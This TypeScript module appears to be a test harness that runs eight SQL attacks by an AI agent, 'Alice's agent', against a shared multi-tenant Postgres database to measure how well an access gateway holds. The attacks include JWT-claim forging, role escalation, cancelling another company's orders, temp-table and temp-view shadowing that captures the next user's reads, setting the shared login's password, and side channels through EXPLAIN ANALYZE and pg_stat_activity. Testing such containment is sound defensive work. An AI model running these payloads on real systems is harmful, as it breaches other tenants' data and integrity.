import { grouped } from "./printing.ts";
import type { Answer, Scene } from "./scenes.ts";

/** Something that Alice's agent tries. */
export interface Attack {
  readonly title: string;
  /** Sent as it is to both sides. */
  readonly sql: string;
  /** The heart of it as one statement, for a side that refuses several at once. Tried on Behalf, too. */
  readonly alone?: string;
  /** Sends `sql` and counts what came of it. Nothing gained is 0. */
  run(scene: Scene, sql: string): Promise<{ readonly answer: Answer; readonly gained: number }>;
  /** What was gained, in words. */
  gain(gained: number): string;
  /** Puts back what it changed outside its own connection. */
  undo?(scene: Scene): Promise<void>;
}

/** For statements that bring companies and counts: the rows that are not of Alice's company. */
const foreignRows: Attack["run"] = async (scene, sql) => {
  const answer = await scene.asAlice(sql);
  return { answer, gained: foreign(answer) };
};

function foreign(answer: Answer): number {
  if (answer.kind === "refused") return 0;
  return answer.rows
    .filter(({ org_id: company }) => typeof company === "string" && company !== "acme")
    .reduce((sum, { rows }) => sum + Number(rows), 0);
}

const COUNT = "select org_id, count(*) as rows from orders group by org_id";
const PASSWORD = "chosen-by-the-agent";

export const attacks: readonly Attack[] = [
  {
    title: "writes itself another human's claims, in one SELECT",
    sql: `select org_id, rows from (select
  set_config('request.jwt.claims', '{"sub":"bob","org_id":"globex","job":"manager"}', true) ||
  set_config('behalf.seal', '{"sub":"bob","org_id":"globex","job":"manager"}', true) as claims) me,
  lateral (select org_id, count(*) as rows from orders where claims <> '' group by org_id) his`,
    run: foreignRows,
    gain: (gained) => `${grouped(gained)} orders of other companies`,
  },
  {
    title: "takes the role off and puts a stronger one on",
    sql: `reset role; set role app_service; ${COUNT}`,
    alone: "select set_config('role', 'app_service', true)",
    run: foreignRows,
    gain: (gained) => `${grouped(gained)} orders of other companies`,
  },
  {
    title: "ends the read-only transaction and writes",
    sql: `commit; set role app_service;
update orders set status = 'cancelled' where org_id = 'globex' and status = 'open'`,
    alone: `with gone as (update orders set status = 'cancelled' where org_id = 'globex' returning id)
select count(*) from gone`,
    async run(scene, sql) {
      const open = async () =>
        (
          await scene.admin.query<{ id: number }>(
            "select id from orders where org_id = 'globex' and status = 'open'",
          )
        ).rows.length;
      await scene.admin.query(
        "create temp table if not exists were_open as select id from orders where org_id = 'globex' and status = 'open'",
      );
      const before = await open();
      const answer = await scene.asAlice(sql);
      return { answer, gained: before - (await open()) };
    },
    gain: (gained) => `${grouped(gained)} orders of Globex Foods cancelled`,
    async undo({ admin }) {
      await admin.query(
        "update orders set status = 'open' where org_id = 'globex' and status = 'cancelled' and id in (select id from were_open)",
      );
    },
  },
  {
    title: "leaves a table named orders for whoever comes next",
    sql: `commit; create temp table orders (reference text, status text);
insert into orders (reference, status) values ('MADE-UP', 'open'); grant select on orders to public`,
    alone: "create temp table orders as select 'MADE-UP' as reference, 'open' as status",
    async run(scene, sql) {
      const answer = await scene.asAlice(sql);
      const told = await scene.asBob("select reference, status from orders limit 10");
      const invented =
        told.kind === "rows" ? told.rows.filter((row) => row["reference"] === "MADE-UP") : [];
      return { answer, gained: invented.length };
    },
    gain: (gained) => `Bob, next on the connection, is shown ${gained} order that nobody placed`,
  },
  {
    title: "leaves a view that copies what the next human reads",
    sql: `commit; create temp table loot (org_id text, id integer); grant all on loot to public;
create function pg_temp.keep(text, integer) returns boolean language sql as
  'insert into pg_temp.loot values ($1, $2) returning true';
create temp view orders with (security_invoker = true) as
  select * from public.orders where pg_temp.keep(org_id, id); grant select on orders to public`,
    alone: "create temp view orders with (security_invoker = true) as select * from public.orders",
    async run(scene, sql) {
      const answer = await scene.asAlice(sql);
      await scene.asBob("select status, count(*) from orders group by status");
      const loot = await scene.asAlice(
        "select org_id, count(*) as rows from pg_temp.loot group by org_id",
      );
      return { answer, gained: foreign(loot) };
    },
    gain: (gained) => `${grouped(gained)} orders that Bob, next on the connection, looked at`,
  },
  {
    title: "gives the shared login a password of its own",
    sql: `commit; alter role current_user password '${PASSWORD}'`,
    alone: `alter role current_user password '${PASSWORD}'`,
    async run(scene, sql) {
      const answer = await scene.asAlice(sql);
      return { answer, gained: (await scene.canLogIn(PASSWORD)) ? 1 : 0 };
    },
    gain: () => "whoever knows that password now logs in, past every gateway",
  },
  {
    title: "counts hidden rows with EXPLAIN ANALYZE",
    sql: `set local enable_indexscan = off; set local enable_indexonlyscan = off; set local enable_bitmapscan = off;
explain (analyze) select count(*) from orders`,
    alone: "explain (analyze) select count(*) from orders",
    async run(scene, sql) {
      const answer = await scene.asAlice(sql);
      const removed =
        answer.kind === "refused"
          ? []
          : answer.rows.map(
              (row) => /Rows Removed by Filter: (\d+)/.exec(String(row["QUERY PLAN"]))?.[1] ?? 0,
            );
      return { answer, gained: removed.reduce<number>((sum, rows) => sum + Number(rows), 0) };
    },
    gain: (gained) => `${grouped(gained)} hidden orders counted`,
  },
  {
    title: "reads what others are asking at this moment",
    sql: `reset role; select query from pg_stat_activity
where pid <> pg_backend_pid() and query <> '<insufficient privilege>'`,
    alone: `select query from pg_stat_activity
where pid <> pg_backend_pid() and query <> '<insufficient privilege>'`,
    async run(scene, sql) {
      const bobs = scene.asBob("select 'What do we owe Fjord Bakery?' as note, pg_sleep(30)");
      const pid = await sleeper(scene);
      const answer = await scene.asAlice(sql);
      await scene.admin.query("select pg_cancel_backend($1)", [pid]);
      await bobs;
      return { answer, gained: answer.kind === "rows" ? answer.rows.length : 0 };
    },
    gain: (gained) => `the text of ${gained} statement that Bob's agent runs`,
  },
];

/** Waits until Bob's statement really runs. */
async function sleeper({ admin, login }: Scene): Promise<number> {
  const deadline = Date.now() + 10_000;
  while (Date.now() < deadline) {
    const { rows } = await admin.query<{ pid: number }>(
      "select pid from pg_stat_activity where usename = $1 and wait_event = 'PgSleep'",
      [login],
    );
    if (rows[0] !== undefined) return rows[0].pid;
  }
  throw new Error("Bob's statement did not start within 10 s");
}
